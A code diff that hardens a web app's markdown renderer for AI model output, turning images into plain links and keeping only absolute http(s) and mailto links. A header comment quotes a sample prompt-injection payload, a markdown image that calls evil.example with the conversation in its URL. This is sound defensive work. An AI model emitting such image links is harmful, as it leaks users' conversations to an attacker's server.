@@ -5,8 +5,14 @@
  *    escaped and shown as text. Images become plain links (nothing is fetched automatically).
  * 2. The resulting HTML is then sanitized with DOMPurify (after conversion, so nothing marked
  *    emits can slip through): a small allow-list of tags and attributes, no <img>, no event
- *    handlers, no style, and only http(s)/mailto/relative URLs. Every link opens in a new tab
- *    with rel="noopener noreferrer".
+ *    handlers, no style, and only absolute http(s) and mailto URLs. Every link opens in a new
+ *    tab with rel="noopener noreferrer".
+ *
+ * No image is ever loaded from model output: an image a prompt injection plants
+ * (`![](https://evil.example/?q=<the conversation>)`) would leak the conversation the moment
+ * it loaded. It is shown as a link to its URL instead, which the user may open in a new tab
+ * (no referrer). A click-to-load in the page is not offered: the page's CSP allows images
+ * from the app itself, data: and blob: only (frontend/server/app.ts, docs/security.md).
  */
 import DOMPurify, { type Config, type DOMPurify as Purifier } from 'dompurify';
 import { Marked, type Tokens } from 'marked';
@@ -39,7 +45,8 @@ const marked = new Marked({
     },
     image(token: Tokens.Image): string {
       const label = token.text.trim() === '' ? token.href : token.text;
-      const title = token.title ? ` title="${escapeHtml(token.title)}"` : '';
+      // The title shows where the link goes when the label is the image's description.
+      const title = ` title="${escapeHtml(token.title || token.href)}"`;
       return `<a href="${escapeHtml(token.href)}"${title} class="md-image-link">${escapeHtml(label)}</a>`;
     },
   },
@@ -82,8 +89,23 @@ const ALLOWED_TAGS = [
 
 const ALLOWED_ATTR = ['href', 'title', 'class', 'start', 'align', 'type', 'checked', 'disabled'];
 
-/** http(s) and mailto, or no scheme at all (relative / #fragment). Drops javascript:, data:, … */
+/**
+ * DOMPurify's own rule, which it applies to every attribute that is not "URI-safe" (so it must
+ * pass plain values such as type="checkbox"): a scheme must be http(s) or mailto. Links are
+ * narrowed further in the hook below.
+ */
 const ALLOWED_URI = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;
+
+/**
+ * The links kept: absolute http(s) and mailto URLs only. Every other href is removed and the
+ * link stays as text: javascript:, data:, vbscript:, file:, blob: and any other scheme, and
+ * relative or protocol-relative URLs too (model output has no base to be relative to, and
+ * "/api/..." or "//host" would only point somewhere the model should not send the user).
+ * Tested after taking out the whitespace and control characters browsers ignore in URLs.
+ */
+const LINK_URL = /^(?:https?:\/\/|mailto:)/i;
+// eslint-disable-next-line no-control-regex
+const URL_IGNORED = /[\u0000-\u0020\u00A0\u1680\u180E\u2000-\u2029\u205F\u3000]/g;
 
 const PURIFY_CONFIG: Config = {
   ALLOWED_TAGS,
@@ -102,6 +124,10 @@ function getPurifier(): Purifier {
   const instance = DOMPurify(window);
   instance.addHook('afterSanitizeAttributes', (node) => {
     if (node.nodeName === 'A') {
+      const href = node.getAttribute('href');
+      if (href !== null && !LINK_URL.test(href.replace(URL_IGNORED, ''))) {
+        node.removeAttribute('href');
+      }
       if (node.hasAttribute('href')) {
         node.setAttribute('target', '_blank');
         node.setAttribute('rel', 'noopener noreferrer');
